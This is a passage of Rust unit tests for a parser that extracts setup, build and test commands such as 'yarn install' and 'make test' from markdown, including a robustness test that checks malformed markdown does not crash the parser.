        // A labelled command, or a command leading its item, is one.
        assert_eq!(set("- Test: `make test`\n").test, ["make test"]);
        assert_eq!(set("- `npm test` runs the suite\n").test, ["npm test"]);
    }

    #[test]
    fn a_greater_than_prompt_is_a_prompt() {
        let commands = set(
            "## Getting started\n\n```bash\n# install dependencies\n> yarn install\n# serve with hot reload at localhost:8080\n> yarn serve\n```\n\n```bash\n# build for production\nyarn run build\n\n# run unit tests\nyarn test\n```\n",
        );
        assert_eq!(commands.setup, ["yarn install"]);
        assert_eq!(commands.build, ["yarn run build"]);
        assert_eq!(commands.test, ["yarn test"]);
    }

    #[test]
    fn hostile_markdown_never_panics() {
        let long_line = "x".repeat(1 << 20);
        for text in [
            "```sh\ncd é\u{301}\nmake\n```",
            "```sh\n. \n```",
            "```sh\nsource\n```",
            "```sh\ngit clone\ncd\n```",
            "```\n> \n$\n%\n```",
            "- `é`: `ü`\n",
            &long_line,
        ] {
            let _ = commands_in_markdown(text);
            let _ = read_markdown(text, Some(&[]));
        }
    }
}
